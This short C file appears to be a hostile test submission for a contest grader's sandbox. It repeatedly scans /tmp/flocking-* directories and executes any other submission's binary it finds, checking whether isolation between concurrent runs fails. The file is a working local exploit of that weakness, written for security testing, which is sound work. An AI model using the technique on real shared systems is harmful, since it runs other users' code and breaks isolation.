// Searches for copies of other submissions that a grader run by root makes so that an unprivileged
// user can start them, and becomes one. AC means that the attack works: RTE (exit-1) if there is
// none. It needs other runs at the same time (-j 2), and no Landlock; see hostile_class.sh, staged.
#include <glob.h>

#include "attack.h"

int main(void) {
  char own[512] = "";
  readlink("/proc/self/exe", own, sizeof own - 1);
  const char* own_name = strrchr(own, '/') != NULL ? strrchr(own, '/') : own;
  for (seconds_since_start(); seconds_since_start() < 1.5; usleep(1000)) {
    glob_t found = {0};
    glob("/tmp/flocking-*/*/*", 0, NULL, &found);
    for (size_t i = 0; i < found.gl_pathc; ++i) {
      char* arguments[] = {found.gl_pathv[i], NULL};
      if (strcmp(strrchr(found.gl_pathv[i], '/'), own_name) != 0) execv(arguments[0], arguments);
    }
    globfree(&found);
  }
  return 1;
}
